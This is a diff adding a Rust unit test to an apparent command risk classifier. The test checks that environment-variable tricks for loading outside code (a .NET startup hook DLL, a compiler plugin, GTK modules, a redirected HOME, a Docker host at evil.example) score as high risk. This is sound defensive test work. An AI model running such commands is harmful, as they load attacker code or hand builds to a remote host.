@@ -129,4 +129,29 @@ mod tests {
             assert_eq!(risk_of(line), RiskLevel::Low, "{line}");
         }
     }
+
+    #[test]
+    fn variables_that_load_code_from_elsewhere() {
+        for line in [
+            "DOTNET_STARTUP_HOOKS=/tmp/x.dll dotnet --info",
+            "CFLAGS=-fplugin=/tmp/x.so make",
+            "GTK_MODULES=/tmp/x zenity --info",
+            "HOME=/tmp git status",
+            "DOCKER_HOST=tcp://evil.example:2375 docker build .",
+        ] {
+            assert_eq!(risk_of(line), RiskLevel::High, "{line}");
+        }
+        for line in [
+            "CFLAGS=-O2 ls",
+            "GTK_MODULES=gail ls",
+            "HOME=/home/dev git status",
+            "LDFLAGS=-L/usr/local/lib ls",
+        ] {
+            assert_eq!(risk_of(line), RiskLevel::Low, "{line}");
+        }
+        assert_eq!(
+            risk_of("DOCKER_HOST=ssh://web1 docker ps"),
+            RiskLevel::Medium
+        );
+    }
 }
